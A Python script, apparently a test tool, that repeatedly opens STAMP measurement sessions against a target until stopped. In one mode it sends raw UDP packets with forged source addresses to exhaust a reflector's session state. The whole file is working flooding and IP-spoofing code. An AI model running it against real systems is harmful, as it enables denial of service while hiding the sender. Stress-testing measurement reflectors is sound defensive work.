"""Opens one STAMP session after another, until SIGTERM: what a stranger does who wants them all.

Usage: stamp_sessions.py TARGET PORT SOURCE PACKETS COUNT [RATE]

Each session has an SSID or a source port of its own, and PACKETS packets. SOURCE is an address of this host,
which waits for replies, or `forged`: then each session is of another address, RATE packets a second (root
only). Prints `opened` once COUNT sessions were, and goes on.
"""

import signal
import socket
import struct
import sys
import time

target, port, source, packets, count = sys.argv[1:6]
rate = float(sys.argv[6]) if len(sys.argv) > 6 else 0
signal.signal(signal.SIGTERM, lambda _signal, _frame: sys.exit(0))
NTP_SECONDS = int(time.time()) + 2_208_988_800
IN_FLIGHT = 64


def packet(number, ssid):
    return struct.pack('!IIIHH', number, NTP_SECONDS, number, 0x9501, ssid) + bytes(28)


def tell(opened):
    if opened == int(count):
        print('opened', flush=True)


def open_own():
    opened = 0
    while True:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.bind((source, 0))
            sock.connect((target, int(port)))
            sock.settimeout(0.2)
            waiting = 0
            for ssid in range(1, 65_536):
                for number in range(int(packets)):
                    sock.send(packet(number, ssid))
                    waiting += 1
                try:
                    while waiting >= IN_FLIGHT:
                        sock.recv(100)
                        waiting -= 1
                except socket.timeout:
                    waiting = 0
                opened += 1
                tell(opened)


def open_forged():
    begun = time.monotonic()
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        for opened in range(1, 2**22):
            # Of 100.64.0.0/10 (RFC 6598), which no test uses.
            address = struct.pack('!I', 0x64400000 + opened)
            for number in range(int(packets)):
                data = packet(number, 0)
                udp = struct.pack('!HHHH', 5000, int(port), 8 + len(data), 0)
                ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0,
                                 address, socket.inet_aton(target))
                sock.sendto(ip + udp + data, (target, 0))
                sent += 1
            tell(opened)
            ahead = sent / rate - (time.monotonic() - begun)
            if ahead > 0.01:
                time.sleep(ahead)


open_forged() if source == 'forged' else open_own()
